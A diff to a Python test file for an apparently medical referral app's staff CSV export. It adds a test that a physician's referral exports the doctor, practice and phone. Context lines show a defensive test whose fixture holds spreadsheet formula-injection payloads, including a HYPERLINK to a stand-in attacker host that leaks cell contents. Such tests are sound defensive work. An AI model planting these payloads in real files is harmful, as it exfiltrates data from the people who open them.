@@ -40,6 +40,18 @@ def test_the_export_is_the_filtered_queue_in_queue_order(app, coordinator):
                                "best_verdict": "Needs review"}
 
 
+def test_a_physicians_referral_exports_the_physician_and_practice(app, coordinator):
+    _, reference = file_referral(app, source="physician",
+                                 contact={"physician_name": "Dr. Ada Okafor",
+                                          "practice": "Riverside Oncology", "phone": "555-0177"})
+    row = _rows(coordinator.get("/staff/export.csv"))[0]
+    assert row["reference"] == reference and row["contact_name"] == ""
+    assert row["referring_physician"] == "Dr. Ada Okafor"
+    assert row["practice"] == "Riverside Oncology" and row["contact_phone"] == "555-0177"
+    page = coordinator.get("/staff/").get_data(True)
+    assert "Dr. Ada Okafor" in page and "(referring physician)" in page
+
+
 def test_cells_a_spreadsheet_would_run_as_formulas_are_made_text(app, coordinator):
     attacks = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "phone": "+1 555 0100",
                "email": "@SUM(1+1)", "best_time": "-2+3"}
